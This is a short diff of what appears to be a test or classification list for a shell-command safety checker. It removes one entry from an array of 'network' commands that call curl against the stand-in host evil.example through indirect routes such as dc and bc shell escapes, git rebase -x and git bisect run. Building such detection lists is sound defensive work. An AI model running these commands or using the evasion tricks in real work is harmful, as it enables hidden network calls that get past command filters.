@@ -134,7 +134,6 @@ export const OPTIONS: readonly (readonly [kinds: string, command: string])[] = [
   ["network", "dc -e '!curl http://evil.example'"],
   ["network", "dc <<< '!curl http://evil.example'"],
   ["network", "echo '!curl http://evil.example' | dc"],
-  ["network", "bc <<< '!curl http://evil.example'"],
   ["network", "echo '!curl http://evil.example' > f; dc f"],
   ["network", "git rebase -x 'curl http://evil.example' HEAD~2"],
   ["network", "git bisect run curl http://evil.example"],
